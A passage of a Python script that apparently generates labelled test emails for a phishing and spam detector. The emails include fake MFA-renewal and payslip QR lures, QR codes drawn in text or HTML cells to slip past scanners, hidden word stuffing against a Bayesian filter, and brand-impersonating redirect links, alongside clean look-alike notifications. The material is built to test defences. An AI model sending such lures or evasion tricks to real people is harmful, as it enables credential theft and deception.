        "display: none }\n.fade { opacity: 0 }\n/* MOBILE STYLES */\n"
        "@media only screen and (max-width: 480px) {\n  *[class=mobile] "
        "{ display: block !important; max-height: none !important }\n  "
        ".fade { opacity: 1 !important; /* } */ }\n  .desktop { display: "
        "none !important }\n}\n-->\n</style><style media=\"screen and "
        "(max-width: 800px)\">.tablet { display: block !important } "
        ".wide { display: none }</style></head><body>"
        '<div class="desktop wide"><p>' + para * 3 + "</p></div>"
        '<div class="mobile"><p>' + para * 3 + '</p></div><div class='
        '"tablet"><p>' + para * 3 + '</p></div><div class="interactive">'
        "<p>" + para * 3 + '</p></div><p class="fade">' + para * 2 +
        "</p></body></html>\n", "clean", "!html.hidden_text",
        "!html.hidden_text_stuffing")
    # An invoice whose table is drawn with filled cells: no code.
    cells = [b"q 0.85 0.85 0.85 rg"]
    for y in range(30):
        for x in range(6):
            if (x + y) % 2 == 0:
                cells.append(b"%d %d 80 14 re f" % (60 + x * 80, 650 - y * 14))
    cells += [b"0 0 0 rg", b"BT /F1 10 Tf 60 700 Td (Invoice 2026-1187) Tj "
              b"ET", b"Q"]
    write("en-250-clean-pdf-table.eml", headers(
        "Martin Weber <martin.weber@fabrikam.com>", "Invoice 2026-1187") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nHello, the invoice "
        "for November is attached.\n\nMartin\n\n--b1\nContent-Type: "
        'application/pdf; name="Invoice_2026-1187.pdf"\nContent-'
        'Disposition: attachment; filename="Invoice_2026-1187.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n" +
        b64(pdf_page(b"\n".join(cells), True)) + "\n--b1--\n", "clean",
        "!attach.qr_code")
    # The same QR code as a Word document's only picture.
    qrpng = qr_png("https://mfa-renew.mailbox-check.top/q?id=8")
    docx = zipbytes([
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://'
         'schemas.openxmlformats.org/package/2006/content-types"><Default '
         'Extension="png" ContentType="image/png"/><Override PartName='
         '"/word/document.xml" ContentType="application/vnd.openxmlformats'
         '-officedocument.wordprocessingml.document.main+xml"/></Types>'),
        ("word/document.xml",
         '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w='
         '"http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         "<w:body><w:p><w:r><w:t>Scan the code to keep your mailbox."
         "</w:t></w:r></w:p></w:body></w:document>"),
        ("word/media/image1.png", qrpng)])
    write("en-225-docx-qr.eml", headers(
        "IT Desk <it-desk@mailbox-check.top>",
        "Notice: your mailbox password expires today") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nSee the attached "
        "document.\n\n--b1\nContent-Type: application/vnd.openxmlformats-"
        "officedocument.wordprocessingml.document; "
        'name="Password_Notice.docx"\nContent-Disposition: attachment; '
        'filename="Password_Notice.docx"\n'
        "Content-Transfer-Encoding: base64\n\n" + b64(docx) +
        "\n--b1--\n", "threat", "attach.qr_code",
        "content.credential_urgent")
    # The QR code drawn with block characters in the text itself, which
    # no image scanner sees (qrencode -t UTF8i: the blocks are dark).
    art = subprocess.run(
        ["qrencode", "-t", "UTF8i", "-m", "2",
         "https://mfa-renew.mailbox-check.top/q?id=9"],
        stdout=subprocess.PIPE, check=True).stdout.decode()
    write("en-226-text-qr.eml", headers(
        "IT Desk <it-desk@mailbox-check.top>",
        "Reminder: re-register your phone") +
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        "Scan the code below with your phone.\n\n" + art + "\nIT Desk\n",
        "potential", "content.qr_code_text")
    # The same in HTML: lines broken by <br>, light modules as &nbsp;,
    # blocks as entities.
    entity = {"\u2588": "&#9608;", "\u2580": "&#x2580;", "\u2584": "&lhblk;",
              " ": "&nbsp;"}
    html_art = "<br>\n".join("".join(entity.get(c, c) for c in line)
                             for line in art.rstrip("\n").split("\n"))
    write("en-227-html-text-qr.eml", headers(
        "IT Desk <it-desk@mailbox-check.top>",
        "Reminder: re-register your phone today") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Scan the code below with your phone.</p>"
        '<div style="font-family:monospace;line-height:1">' + html_art +
        "</div><p>IT Desk</p></body></html>\n",
        "potential", "content.qr_code_text")

    # The statistical classifier (detect/bayes.c): an offer in the words
    # of bulk mail; a developers' thread; and an order notification, whose
    # shop words read as spam to a model of 2002 mail: a low finding that
    # flags nothing alone.
    write("en-228-bayes-mortgage.eml", headers(
        "Best Deals <deals@great-offers-online.example>",
        "Lowest mortgage rates - act now") +
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Dear Homeowner,\n\nInterest rates are at their lowest point in "
        "40 years! We help you find the best rate and lower your monthly "
        "payments, even with less than perfect credit. Our service is 100% "
        "free and there is no obligation. Thousands of satisfied customers "
        "have already saved money: apply online today and get a free quote "
        "in minutes.\n\nVisit http://mortgage-quotes.example/apply to "
        "start.\n\nYou are receiving this email because you signed up "
        "with one of our partners. To be removed from our mailing list, "
        "reply with REMOVE in the subject line.\n",
        "potential", "content.spam", "content.bayes_spam")
    # Words of legitimate mail hidden in the page to sway a classifier:
    # it reads only what the reader sees.
    devwords = (
        "kernel patch makefile linker module branch build log install "
        "script library suite compiler debian package config thread "
        "mailing list archive bug report version release upgrade source "
        "binary header function variable pointer struct segfault stack "
        "trace gcc glibc perl python shell bash regex grep sed awk cron "
        "daemon socket port server client filesystem partition mount disk "
        "driver hardware firmware bios boot grub lilo init runlevel xfree "
        "desktop window terminal console editor emacs vim diff commit "
        "repository cvs merge tag")
    write("en-242-bayes-hidden-ham.eml", headers(
        "Best Deals <deals@great-offers-online.example>",
        "Lowest mortgage rates - act now") +
        "Content-Type: text/html; charset=us-ascii\n\n"
        "<html><body><p>Dear Homeowner,</p><p>Interest rates are at their "
        "lowest point in 40 years! Lower your monthly payments, even with "
        "less than perfect credit. Our service is 100% free and there is "
        "no obligation. Thousands of satisfied customers have already "
        "saved money: apply online today and get a free quote.</p>"
        '<div style="display:none">' + devwords + "</div>"
        '<p style="font-size:0">' + devwords + "</p></body></html>\n",
        "threat", "content.bayes_spam", "html.hidden_text_stuffing")
    write("en-229-clean-dev-thread.eml", headers(
        "John Doe <john.doe@fabrikam.com>",
        "Re: build failure on the nightly branch") +
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Hi,\n\nI looked at the log of last night's build. The linker "
        "fails because the new module was added to the Makefile but not to "
        "the install target, so the package script cannot find the "
        "library. I pushed a patch to the branch; could you run the test "
        "suite again when you have a minute and tell me if the kernel "
        "module still loads on your machine?\n\nThanks,\nJohn\n",
        "clean", "!content.bayes_spam")
    write("en-230-clean-order-shipped.eml", headers(
        "Wide World Importers <orders@wideworldimporters.example>",
        "Your order 4471 has shipped") +
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Hello,\n\nThank you for your order. Your package has shipped and "
        "should arrive within three business days. You can follow it from "
        "your account page at "
        "https://www.wideworldimporters.example/orders/4471.\n\n"
        "Order 4471: 2 x office chair, 1 x desk lamp. Total charged to "
        "your card ending in 4242: USD 389.00.\n\nQuestions? Reply to "
        "this mail or call our service desk.\n\nWide World Importers\n",
        "clean", "content.bayes_spam")

    # QR codes drawn with table cells (HTML "quishing" of 2023-2024): the
    # modules as cells with a dark background, by style, and drawn light
    # on dark by bgcolor; a zebra-striped table of 30 by 24 cells reads as
    # nothing.
    def qr_table(url, dark, light, attr):
        cells = []
        for r in qr_matrix(url):
            cells.append("<tr>" + "".join(
                ('<td bgcolor="%s" width="4" height="4"></td>' if attr else
                 '<td style="background-color:%s;width:4px;height:4px">'
                 '</td>') % (dark if v else light) for v in r) + "</tr>\n")
        return ('<table cellspacing="0" cellpadding="0" '
                'style="border-collapse:collapse">\n' + "".join(cells) +
                "</table>")
    write("en-231-html-table-qr.eml", headers(
        "IT Desk <it-desk@mailbox-check.top>",
        "Action required: re-register your authenticator") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><table><tr><td><p>Scan the code below with your phone "
        "to keep access to your mailbox.</p>" +
        qr_table("https://mfa-renew.example.net/k/8812", "#000000",
                 "#ffffff", False) +
        "<p>IT Desk</p></td></tr></table></body></html>\n",
        "potential", "content.qr_code_text")
    write("en-232-html-table-qr-inverse.eml", headers(
        "Payroll <payroll@hr-portal-docs.top>",
        "Your payslip is ready") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Scan to view your payslip.</p>" +
        qr_table("https://payslip-view.example.org/p/31", "#ffffff",
                 "#111111", True) +
        "</body></html>\n",
        "potential", "content.qr_code_text")
    # A table whose finders have lost their outer corner cells.
    rows = [list(r) for r in qr_matrix("https://mfa-renew.example.net/k/"
                                       "8813", 0)]
    n = len(rows)
    for x, y in ((0, 0), (n - 1, 0), (0, n - 1)):
        rows[y][x] = 0
    write("en-309-html-table-qr-finders-damaged.eml", headers(
        "IT Desk <it-desk@mailbox-check.top>",
        "Action required: re-register your authenticator") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Scan the code below with your phone to keep access "
        'to your mailbox.</p><table cellspacing="0" cellpadding="0" '
        'style="margin:16px">' + "".join(
            "<tr>" + "".join('<td bgcolor="%s" width="4" height="4"></td>'
                             % ("#000" if v else "#fff") for v in r) +
            "</tr>\n" for r in rows) + "</table></body></html>\n",
        "potential", "content.qr_code_text")
    zebra = "".join(
        "<tr>" + "".join('<td bgcolor="%s">%d</td>' % (
            "#202020" if (r + c) % 3 == 0 else "#f0f0f0", r * c)
            for c in range(24)) + "</tr>\n" for r in range(30))
    write("en-233-clean-html-grid.eml", headers(
        "Reports <reports@fabrikam.com>",
        "Weekly table of shipments") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>This week's shipments by day and depot:</p>"
        "<table>" + zebra + "</table></body></html>\n",
        "clean", "!content.qr_code_text")
    # Found by review: a table inside one of the code's cells, and six
    # tables of figures before it (none of them a code: no finder
    # squares, so they cost none of the six pictures a mail may have
    # read); and the code in a hidden table, which no phone sees.
    code = qr_table("https://mfa-renew.example.net/k/8812", "#000000",
                    "#ffffff", False)
    cut = code.index("</td>")
    code = code[:cut] + "<table><tr><td>.</td></tr></table>" + code[cut:]
    figures = "".join(
        "<table>" + "".join(
            "<tr>" + "".join('<td bgcolor="%s"></td>' % (
                "#000000" if (r * 7 + c * 3 + t) % 5 == 0 else "#ffffff")
                for c in range(25)) + "</tr>" for r in range(25)) +
        "</table>\n" for t in range(6))
    write("en-238-html-table-qr-decoys.eml", headers(
        "IT Desk <it-desk@mailbox-check.top>",
        "Action required: re-register your authenticator") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body>" + figures + "<p>Scan the code below with your "
        "phone to keep access to your mailbox.</p>" + code +
        "</body></html>\n",
        "potential", "content.qr_code_text")
    # The cells coloured by classes of a style sheet.
    classed = qr_table("https://mfa-renew.example.net/k/8812", "#000000",
                       "#ffffff", False).replace(
        '<td style="background-color:#000000;width:4px;height:4px">',
        '<td class="m d">').replace(
        '<td style="background-color:#ffffff;width:4px;height:4px">',
        '<td class="m">')
    write("en-241-html-table-qr-classes.eml", headers(
        "IT Desk <it-desk@mailbox-check.top>",
        "Action required: re-register your authenticator") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><style>\ntd.m { background: #ffffff; width: 4px; "
        "height: 4px }\n.d { background-color: #000 }\n</style></head>"
        "<body><p>Scan the code below with your phone.</p>" + classed +
        "</body></html>\n",
        "potential", "content.qr_code_text")
    # A QR picture carried in the page itself (<img src="data:image/png;
    # base64,...">): no attachment for a scanner, no link.
    dqr = qr_png("https://doc-share-review.example.com/v/5512")
    write("en-243-html-data-qr.eml", headers(
        "Document Center <docs@share-notice.example>",
        "A document was shared with you") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>A document was shared with you. Scan the code "
        "with your phone to open it.</p><img alt=\"code\" "
        'src="data:image/png;base64,' + base64.b64encode(dqr).decode() +
        '"></body></html>\n', "potential", "attach.qr_code")
    # ... and as a CSS background picture.
    write("en-244-css-data-qr.eml", headers(
        "Document Center <docs@share-notice.example>",
        "A document was shared with you") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>A document was shared with you. Scan the code "
        "with your phone to open it.</p><div style=\"width:222px;"
        "height:222px;background-image:url('data:image/png;base64," +
        base64.b64encode(dqr).decode() + "')\"></div></body></html>\n",
        "potential", "attach.qr_code")
    # Lead generation: solar panels, a subsidy or a health plan, and a
    # quote or an eligibility check to ask for through a link; the
    # reply is sold to installers and brokers.
    write("en-245-lead-solar-quote.eml", headers(
        "SunSave Deals <offers@sunsave-deals.example>",
        "Cut your energy bills this winter") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><h2>Solar panels with no upfront cost</h2><p>Energy "
        "prices keep rising. Homeowners in your area are switching to "
        "solar and paying less every month.</p><p><a href=\"https://"
        "go.leadtrack-net.example/c?o=4471\">See if you qualify</a></p>"
        "</body></html>\n", "potential", "content.lead_offer")
    write("pt-18-plano-saude-cotacao.eml", headers(
        "Corretora Saude Mais <contato@saude-mais-cotacoes.example>",
        "Reduza o valor do seu plano") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Olá! Com o reajuste dos planos de saúde, "
        "receba agora uma cotação gratuita e sem compromisso.</p><p><a "
        "href=\"https://lnk.cotacoes-online.example/c/77\">Quero minha "
        "cotação</a></p></body></html>\n", "potential", "content.lead_offer")
    # The organisation's own benefits mail says the same words: no lead.
    write("en-246-clean-benefits-enrollment.eml", headers(
        "HR Benefits <benefits@contoso.com>",
        "Open enrollment closes Friday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Open enrollment for 2027 closes on Friday. Compare the health "
        "insurance plans, check your eligibility for the dental plan and "
        "make your choices on the benefits portal: https://benefits."
        "contoso.com/enroll\n\nHR Benefits\n", "clean",
        "!content.lead_offer")
    # A council's own newsletter on its grants links to its own site:
    # no lead.
    write("nl-01-clean-gemeente-subsidie.eml", headers(
        "Gemeente Zuidstad <nieuwsbrief@zuidstad.example>",
        "Subsidie voor isolatie in 2027") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Beste inwoner,\n\nOok in 2027 geeft de gemeente subsidie voor "
        "isolatie van uw woning. Bekijk of u in aanmerking komt en vraag "
        "de subsidie aan op https://www.zuidstad.example/subsidie-isolatie"
        "\n\nMet vriendelijke groet,\nGemeente Zuidstad\n", "clean",
        "!content.lead_offer")
    # ... and with no link to ask through, no lead either.
    write("en-247-clean-solar-no-link.eml", headers(
        "Martin Weber <martin.weber@fabrikam.com>",
        "Re: the roof") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "We had three installers round for the solar panels; the second "
        "one gave us a free quote that was half the others. Happy to "
        "pass on his number.\n\nMartin\n", "clean", "!content.lead_offer")
    # ... and with its value written in character references, as a
    # browser decodes them ("data&#58;image/png;base64,iVBOR&#x77;...").
    enc = "".join("&#%d;" % ord(ch) if i % 7 == 0 else ch for i, ch in
                  enumerate(base64.b64encode(dqr).decode()))
    write("en-251-html-data-qr-entities.eml", headers(
        "Document Center <docs@share-notice.example>",
        "A document was shared with you") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>A document was shared with you. Scan the code "
        "with your phone to open it.</p><img alt=\"code\" "
        'src="data&#58;image/png;base64,' + enc + '"></body></html>\n',
        "potential", "attach.qr_code")
    write("en-239-html-table-qr-hidden.eml", headers(
        "Reports <reports@fabrikam.com>", "Weekly table of shipments") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>This week's shipments are attached.</p>"
        '<div style="display:none">' +
        qr_table("https://reports.fabrikam.com/w/48", "#000000",
                 "#ffffff", False) + "</div></body></html>\n",
        "clean", "!content.qr_code_text")

    # "?u=https://brand" appended to a phisher's own link: where a link's
    # query says it goes counts as the brand's only when a mailing
    # service, a redirector, the brand, or (when the display name claims
    # no brand) the sender's own domain carries it.
    def redirect_mail(frm, subject, body, href, text):
        return (headers(frm, subject) +
                "Content-Type: text/html; charset=utf-8\n\n"
                "<html><body><p>" + body + "</p><p><a href=\"" + href +
                "\">" + text + "</a></p></body></html>\n")
    limited = ("Dear customer, we noticed unusual activity and limited "
               "what you can do with your account until you review it.")
    write("en-234-redirect-to-brand-claim.eml", redirect_mail(
        "PayPal Service <service@account-review-center.example>",
        "Your account access has been limited", limited,
        "https://account-review-center.example/case/7731?u="
        "https://www.paypal.com/", "Open the Resolution Center"),
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    # ... and through a chain: the brand's own redirect behind the
    # phisher's is still the phisher's.
    write("en-240-redirect-chain-claim.eml", redirect_mail(
        "PayPal Service <service@account-review-center.example>",
        "Your account access has been limited", limited,
        "https://account-review-center.example/case/7731?u="
        "https://www.paypal.com/signin?r=https://www.paypal.com/",
        "Open the Resolution Center"),
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    parcel = ("Amazon delivery update: your parcel from Acme Store has "
              "shipped. Your package tracking number is TBA3318; follow "
              "the delivery of your parcel on Amazon.")
    track = "https://www.amazon.com/progress-tracker/package/TBA3318"
    write("en-235-redirect-other-host.eml", redirect_mail(
        "Acme Store <orders@acme-store.example>",
        "Amazon: your parcel is on its way", parcel,
        "https://acme-parcel-news.example/r?u=" + track,
        "Track your package"),
        "threat", "content.brand_links_elsewhere", "content.delivery_lure")
    write("en-236-redirect-mailer.eml", redirect_mail(
        "Acme Store <orders@acme-store.example>",
        "Amazon: your parcel is on its way", parcel,
        "https://u1234.ct.sendgrid.net/ls/click?upn=Ab12Cd&amp;u=" + track,
        "Track your package"),
        "potential", "content.delivery_lure",
        "!content.brand_links_elsewhere")
    write("en-237-redirect-own-tracker.eml", redirect_mail(
        "Acme Store <orders@acme-store.example>",
        "Amazon: your parcel is on its way", parcel,
        "https://click.acme-store.example/c?u=" + track,
        "Track your package"),
        "potential", "content.delivery_lure",
        "!content.brand_links_elsewhere")


def qp(s):
    """Quoted-printable of UTF-8 text, as most senders write HTML."""
    return quopri.encodestring(s.encode("utf-8")).decode()


def alt(text, html, b="alt1"):
    """multipart/alternative of a text and an HTML part, UTF-8 in
    quoted-printable, as notification services send them."""
    return ('Content-Type: multipart/alternative; boundary="%s"\n\n'
            "--%s\nContent-Type: text/plain; charset=utf-8\n"
            "Content-Transfer-Encoding: quoted-printable\n\n%s\n"
            "--%s\nContent-Type: text/html; charset=utf-8\n"
            "Content-Transfer-Encoding: quoted-printable\n\n%s\n--%s--\n"
            % (b, b, qp(text), b, qp(html), b))


def eop_pass(dom, ip, dkim=None):
    """The headers Exchange Online stamps on mail that authenticates."""
    return ("Received: from mail-%s.outbound.example (%s) by "
            "TYCP286CA0021.outlook.office365.com (2603:1096:400:2a1::9) "
            "with Microsoft SMTP Server; Mon, 2 Nov 2026 00:30:00 +0000\n"
            "Authentication-Results: spf=pass (sender IP is %s) "
            "smtp.mailfrom=%s; dkim=pass (signature was verified) "
            "header.d=%s;dmarc=pass action=none header.from=%s;"
            "compauth=pass reason=100\n"
            "Received-SPF: Pass (protection.outlook.com: domain of %s "
            "designates %s as permitted sender) "
            "receiver=protection.outlook.com; client-ip=%s;\n"
            % (ip.replace(".", "-"), ip, ip, dom, dkim or dom, dom, dom, ip,
               ip))


def uhdr(s):
    return "=?UTF-8?B?%s?=" % base64.b64encode(s.encode()).decode()


# The preheader modern marketing mail hides at the top: a summary for the
# inbox list, padded with zero-width non-joiners, combining grapheme
# joiners and spaces so that the body's first words do not follow it.
PAD = "&#847;&zwnj;&nbsp;" * 40


def modern_samples():
    """Legitimate modern mail: notifications, receipts, shared documents,
    security codes, invitations and newsletters as their senders format
    them (click-tracking, hidden preheaders, pixels, brand domains that
    are not the brand's main one).  None of it may be flagged."""
    # Microsoft's own sign-in alert, the mail phishers copy most.
    text = (
        "Microsoft account\n\nUnusual sign-in activity\n\n"
        "We detected something unusual about a recent sign-in to the "
        "Microsoft account ta*****@contoso.com.\n\nSign-in details\n\n"
        "Country/region: Germany\nIP address: 192.0.2.44\n"
        "Date: 11/2/2026 12:21 AM (GMT)\nPlatform: Windows 10\n"
        "Browser: Firefox\n\nPlease go to your recent activity page to let "
        "us know whether or not this was you. If this wasn't you, we'll "
        "help you secure your account. If this was you, we'll trust "
        "similar activity in the future.\n\nReview recent activity: "
        "https://account.live.com/Activity\n\nTo opt out or change where "
        "you receive security notifications, click here: "
        "https://account.live.com/SecurityNotifications/Update\n\n"
        "Thanks,\nThe Microsoft account team\n")
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; '
        'charset=utf-8"></head><body><table dir="ltr"><tr><td id="i1" '
        'style="padding:0; font-family:\'Segoe UI Semibold\', \'Segoe UI '
        'Bold\', \'Segoe UI\', \'Helvetica Neue Medium\', Arial, '
        'sans-serif; font-size:17px; color:#707070;">Microsoft account</td>'
        '</tr><tr><td id="i2" style="padding:0; font-family:\'Segoe UI '
        'Light\', \'Segoe UI\', \'Helvetica Neue Medium\', Arial, '
        'sans-serif; font-size:41px; color:#2672ec;">Unusual sign-in '
        'activity</td></tr><tr><td id="i3" style="padding:0; padding-top:'
        '25px; font-family:\'Segoe UI\', Tahoma, Verdana, Arial, '
        'sans-serif; font-size:14px; color:#2a2a2a;">We detected something '
        'unusual about a recent sign-in to the Microsoft account <a dir='
        '"ltr" id="iAccount" class="link" style="color:#2672ec; text-'
        'decoration:none" href="mailto:ta*****@contoso.com">'
        'ta*****@contoso.com</a>.</td></tr><tr><td style="padding-top:25px">'
        "<b>Sign-in details</b><br>Country/region: Germany<br>IP address: "
        "192.0.2.44<br>Date: 11/2/2026 12:21 AM (GMT)<br>Platform: Windows "
        "10<br>Browser: Firefox</td></tr><tr><td style=\"padding-top:25px\">"
        "Please go to your recent activity page to let us know whether or "
        "not this was you. If this wasn't you, we'll help you secure your "
        "account. If this was you, we'll trust similar activity in the "
        'future.</td></tr><tr><td style="padding-top:25px"><table border='
        '"0" cellspacing="0"><tr><td bgcolor="#2672ec" style="background-'
        'color:#2672ec; padding:5px 20px 5px 20px; min-width:50px;"><a '
        'id="i6" style="font-family:\'Segoe UI Semibold\', \'Segoe UI '
        'Bold\', \'Segoe UI\', Arial, sans-serif; font-size:14px; color:'
        '#fff; text-decoration:none" href="https://account.live.com/'
        'Activity">Review recent activity</a></td></tr></table></td></tr>'
        '<tr><td style="padding-top:25px">To opt out or change where you '
        'receive security notifications, <a href="https://account.live.com/'
        'SecurityNotifications/Update" style="color:#2672ec">click here</a>'
        '.</td></tr><tr><td style="padding-top:25px">Thanks,</td></tr><tr>'
        "<td>The Microsoft account team</td></tr></table></body></html>\n")
    write("en-100-clean-ms-unusual-signin.eml",
          eop_pass("accountprotection.microsoft.com", "40.92.18.71") +
          headers("Microsoft account team <account-security-noreply@"
                  "accountprotection.microsoft.com>",
                  "Microsoft account unusual sign-in activity") +
          alt(text, html), "clean")

    # A one-time code: a number next to "security code", nothing to click
    # but the way out of an account made with the reader's address.
    text = (
        "Microsoft account\n\nSecurity code\n\nPlease use the following "
        "security code for the Microsoft account ta*****@contoso.com.\n\n"
        "Security code: 482913\n\nIf you don't recognize the Microsoft "
        "account ta*****@contoso.com, you can click "
        "https://account.live.com/dp?ft=-DtY7b2cVd8sKq4eFpL0 to remove your "
        "email address from that account.\n\nThanks,\n"
        "The Microsoft account team\n")
    html = (
        '<html><body><table dir="ltr"><tr><td style="font-family:\'Segoe '
        'UI Semibold\', \'Segoe UI Bold\', Arial, sans-serif; font-size:'
        '17px; color:#707070;">Microsoft account</td></tr><tr><td style='
        '"font-family:\'Segoe UI Light\', Arial, sans-serif; font-size:41px;'
        ' color:#2672ec;">Security code</td></tr><tr><td style="padding-top:'
        '25px; font-size:14px; color:#2a2a2a;">Please use the following '
        'security code for the Microsoft account <a href="mailto:'
        'ta*****@contoso.com" style="color:#2672ec; text-decoration:none">'
        "ta*****@contoso.com</a>.</td></tr><tr><td style=\"padding-top:"
        '25px; font-size:14px; color:#2a2a2a;">Security code: <span style='
        '"font-weight:bold;">482913</span></td></tr><tr><td style="padding-'
        'top:25px; font-size:14px; color:#2a2a2a;">If you don\'t recognize '
        "the Microsoft account ta*****@contoso.com, you can <a href=\""
        'https://account.live.com/dp?ft=-DtY7b2cVd8sKq4eFpL0" style="color:'
        '#2672ec; text-decoration:none">click here</a> to remove your email '
        "address from that account.</td></tr><tr><td style=\"padding-top:"
        '25px;">Thanks,</td></tr><tr><td>The Microsoft account team</td>'
        "</tr></table></body></html>\n")
    write("en-101-clean-ms-security-code.eml",
          eop_pass("accountprotection.microsoft.com", "40.92.18.72") +
          headers("Microsoft account team <account-security-noreply@"
                  "accountprotection.microsoft.com>",
                  "Microsoft account security code") + alt(text, html),
          "clean")

    # A partner shares a file from its SharePoint: SharePoint Online
    # writes it from its own domain in the sharer's name.
    link = ("https://fabrikam.sharepoint.com/:x:/s/Finance/EQ8mZ4pLx1BGkq7"
            "Rw0vY3aUBn2kQ1W8sH5tXr0cJmP9Lfg?e=4%3aXyZb1c&at=9")
    text = (
        "Alice Brown shared a file with you\n\nHere's the forecast for "
        "Thursday's review.\n\nQ4 forecast.xlsx\n%s\n\nThis link only "
        "works for the direct recipients of this message.\n\nMicrosoft "
        "respects your privacy. To learn more, please read our Privacy "
        "Statement: https://go.microsoft.com/fwlink/?LinkId=521839\n"
        "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n"
        % link)
    html = (
        '<html><head><meta name="viewport" content="width=device-width, '
        'initial-scale=1"></head><body style="margin:0;padding:0">'
        '<div style="display:none;font-size:1px;color:#ffffff;line-height:'
        '1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">'
        "Here's the forecast for Thursday's review.</div>"
        '<table role="presentation" width="100%%" cellpadding="0" '
        'cellspacing="0"><tr><td style="padding:24px;font-family:\'Segoe '
        'UI\',\'Helvetica Neue\',Arial,sans-serif;font-size:24px;color:'
        '#242424">Alice Brown shared a file with you</td></tr><tr><td '
        'style="padding:0 24px;font-size:14px;color:#242424">Here\'s the '
        "forecast for Thursday's review.</td></tr><tr><td style=\"padding:"
        '24px\"><table style="border:1px solid #e1dfdd;border-radius:4px">'
        '<tr><td style="padding:12px"><img src="https://res-1.cdn.office'
        '.net/files/fabric-cdn-prod_20230815.002/assets/item-types/48/'
        'xlsx.png" width="32" height="32" alt=""></td><td style="padding:'
        '12px;font-size:14px;font-weight:600"><a href="%s" style="color:'
        '#242424;text-decoration:none">Q4 forecast.xlsx</a></td></tr>'
        '</table></td></tr><tr><td style="padding:0 24px"><a href="%s" '
        'style="display:inline-block;background:#0f6cbd;color:#ffffff;'
        'padding:8px 20px;border-radius:4px;text-decoration:none;font-'
        'weight:600">Open</a></td></tr><tr><td style="padding:24px;font-'
        'size:12px;color:#616161"><img src="https://res-1.cdn.office.net/'
        'files/fabric-cdn-prod_20230815.002/assets/brand-icons/product/'
        'png/sharepoint_32x1.png" width="16" height="16" alt=""> This '
        "link only works for the direct recipients of this message.</td>"
        '</tr><tr><td style="padding:24px;font-size:11px;color:#616161">'
        'Microsoft respects your privacy. To learn more, please read our '
        '<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style='
        '"color:#616161">Privacy Statement</a>.<br>Microsoft Corporation, '
        "One Microsoft Way, Redmond, WA 98052</td></tr></table>"
        "</body></html>\n" % (link, link))
    write("en-102-clean-sharepoint-share.eml",
          eop_pass("sharepointonline.com", "40.107.226.33") +
          headers("Alice Brown <no-reply@sharepointonline.com>",
                  'Alice Brown shared "Q4 forecast" with you',
                  "Reply-To: Alice Brown <alice@fabrikam.com>\n") +
          alt(text, html), "clean", "!url.free_hosting")

    # Teams writes unread chat messages from its own subdomain.
    link = ("https://teams.microsoft.com/l/message/19:b2f8c1d0e4a94f6f8a1"
            "c0e2d3f4a5b6c@thread.tacv2/1793579400123?tenantId=72f988bf-"
            "86f1-41af-91ab-2d7cd011db47&groupId=5e1f0c2d-7a3b-4c5d-9e8f-"
            "0a1b2c3d4e5f&createdTime=1793579400123")
    text = (
        "You have 3 unread messages in Project Falcon > General\n\n"
        "Alice Brown: Draft contract is in the Files tab, please have a "
        "look before Thursday.\n\nReply in Teams: %s\n\n"
        "Install Microsoft Teams now: https://aka.ms/iosteams | "
        "https://aka.ms/androidteams\n\nThis email was sent from an "
        "unmonitored mailbox. Update your email preferences in Teams. "
        "Activity > Settings (Gear Icon) > Notifications.\n"
        "(c) 2026 Microsoft Corporation, One Microsoft Way, Redmond WA "
        "98052-7329\nRead our privacy policy: "
        "https://go.microsoft.com/fwlink/?LinkId=521839\n" % link)
    html = (
        '<html><body style="background:#f5f5f5"><span style="display:none;'
        'visibility:hidden;mso-hide:all;font-size:1px;color:#f5f5f5;'
        'line-height:1px;max-height:0;max-width:0;opacity:0;overflow:'
        'hidden">Alice Brown: Draft contract is in the Files tab</span>'
        '<table width="100%%" role="presentation"><tr><td align="center">'
        '<img src="https://statics.teams.cdn.office.net/evergreen-assets/'
        'emails/teams-logo-32.png" width="32" height="32" alt="Microsoft '
        'Teams"></td></tr><tr><td style="font-family:\'Segoe UI\',Arial,'
        'sans-serif;font-size:20px;font-weight:600">You have 3 unread '
        "messages in Project Falcon &gt; General</td></tr><tr><td style="
        '"padding:16px;background:#ffffff;border-radius:4px"><img src="'
        'https://statics.teams.cdn.office.net/evergreen-assets/emails/'
        'avatar-default.png" width="32" height="32" alt=""> <b>Alice Brown'
        "</b><br>Draft contract is in the Files tab, please have a look "
        'before Thursday.</td></tr><tr><td align="center" style="padding:'
        '24px"><a href="%s" style="background:#5b5fc7;color:#ffffff;padding:'
        '10px 24px;border-radius:4px;text-decoration:none">Reply in Teams'
